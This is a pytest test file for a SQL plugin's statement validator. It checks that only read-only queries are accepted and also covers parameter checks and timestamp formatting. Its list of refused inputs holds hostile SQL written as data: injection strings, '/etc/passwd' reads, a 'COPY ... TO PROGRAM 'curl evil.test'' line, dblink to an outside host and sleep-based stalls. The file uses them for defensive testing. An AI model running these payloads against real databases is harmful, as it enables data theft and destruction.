"""What is special about this plugin: which SQL it takes, and what it says of an error."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from plugins.sql.adapter import SqlAdapter
from plugins.sql.moments import style_of
from plugins.sql.statements import STATEMENT_REFUSED, problems_of, statement_of
from server.sdk import CallRequest, Permanent


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1",
        "  select a, b from t where a > 5 ; ",
        "WITH x AS (SELECT 1 AS a) SELECT * FROM x",
        "VALUES (1, 2), (3, 4)",
        "(SELECT 1) UNION ALL (SELECT 2)",
        "SELECT 'a;b -- c' FROM t -- ; the end",
        "SELECT /* ; DROP */ \"odd;name\", 'it''s' FROM t",
        "SELECT a::text, j->>'k', j #>> '{a,b}', t[1:2], $$ ; $$ FROM t",
        "SELECT updated_at, deleted, created_at FROM updates WHERE copy > 1",
        "SELECT date '2026-01-01' + time '12:30' FROM t",
    ],
)
def test_a_statement_that_only_reads_is_taken(sql: str) -> None:
    assert statement_of(sql).parameters == frozenset()


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1; DROP TABLE customers",
        "SELECT 1;; SELECT 2",
        "'; DROP TABLE customers; --",
        "SELECT * FROM t WHERE a = '\\' ; DROP TABLE t; --'",
        'SELECT "\\" ; DROP TABLE t; --"',
        "SELECT 1) AS q; DELETE FROM t; SELECT * FROM (SELECT 2",
        "SELECT 1) AS q UNION SELECT password FROM users WHERE (1 = 1",
        "SELECT (1",
        "SELECT 'no end",
        "SELECT /* no end",
        "SELECT $$ no end",
        "COPY t TO PROGRAM 'curl evil.test'",
        "COPY (SELECT 1) TO '/tmp/x'",
        "DELETE FROM t",
        "INSERT INTO t VALUES (1)",
        "UPDATE t SET a = 1",
        "DROP TABLE t",
        "ATTACH DATABASE '/etc/passwd' AS x",
        "PRAGMA writable_schema = 1",
        "SET ROLE admin",
        "CALL f()",
        "DO $$ BEGIN END $$",
        "EXPLAIN ANALYZE DELETE FROM t",
        "SELECT * INTO copy FROM t",
        "SELECT * FROM t INTO OUTFILE '/tmp/x'",
        "WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_catalog.pg_read_file ('/etc/passwd')",
        "SELECT \"pg_read_file\"('/etc/passwd')",
        "SELECT PG_READ_FILE /* x */ ('/etc/passwd')",
        "SELECT ARRAY[1, pg_read_binary_file('/etc/passwd')]",
        "SELECT pg_ls_dir('/')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1, '/tmp/x')",
        "SELECT * FROM dblink('host=evil', 'select 1') AS x(a int)",
        "SELECT pg_sleep(100)",
        "SELECT pg_terminate_backend(1)",
        "SELECT query_to_xml('select 1', true, true, '')",
        "SELECT set_config('role', 'admin', false)",
        "SELECT load_extension('x')",
        "SELECT load_file('/etc/passwd')",
        "SELECT sleep(100)",
        "SELECT @a := 1",
        "SELECT /*! 1 */ 2",
        "SELECT 1 # '\n; DROP TABLE t; -- '",
        'SELECT U&"\\0070g_read_file"(1)',
        "SELECT 1\x00",
        "",
        "   ;",
    ],
)
def test_a_statement_that_does_more_or_other_than_read_is_refused(sql: str) -> None:
    with pytest.raises(Permanent) as raised:
        statement_of(sql)
    assert raised.value.code == STATEMENT_REFUSED


@pytest.mark.parametrize(
    ("sql", "params", "pointers"),
    [
        ("SELECT :a", {"a": 1}, []),
        ("SELECT ':a', x::int", {}, []),
        ("SELECT :a", {}, ["/params"]),
        ("SELECT 1", {"a": 1}, ["/params/a"]),
        ("DROP TABLE t", {}, ["/sql"]),
    ],
)
def test_check_knows_parameters_and_statements(sql: str, params: dict[str, Any], pointers: list[str]) -> None:
    assert [each.pointer for each in problems_of({"sql": sql, "params": params})] == pointers


@pytest.mark.parametrize(
    ("operation", "given"),
    [
        ("query.read", {"sql": "DROP TABLE t"}),
        ("query.read", {"sql": "SELECT 1", "params": {"_limit": 1}}),
        ("table.write", {"table": "t", "records": [], "mode": "replace"}),
        ("table.write", {"table": "t", "records": [{}], "mode": "upsert"}),
        ("table.write", {"table": "", "records": [], "mode": "append"}),
    ],
)
def test_a_call_that_could_not_work_is_refused(operation: str, given: dict[str, Any]) -> None:
    assert not SqlAdapter().validate(CallRequest(operation, given)).is_valid


@pytest.mark.parametrize(
    ("sample", "written"),
    [
        ("2026-01-01T00:00:00Z", "2026-03-01T12:00:00Z"),
        ("2026-01-01T00:00:00+00:00", "2026-03-01T12:00:00+00:00"),
        ("2026-01-01 00:00:00", "2026-03-01 12:00:00"),
        ("2026-01-01 00:00:00.123", "2026-03-01 12:00:00.500"),
        ("2026-01-01", "2026-03-01"),
        (1767225600, 1772366400),
        (1767225600000, 1772366400500),
        (None, "2026-03-01T12:00:00.500000+00:00"),
    ],
)
def test_a_moment_is_compared_in_the_form_that_the_column_has(sample: object, written: object) -> None:
    assert style_of(sample).written(datetime(2026, 3, 1, 12, 0, 0, 500_000, UTC)) == written
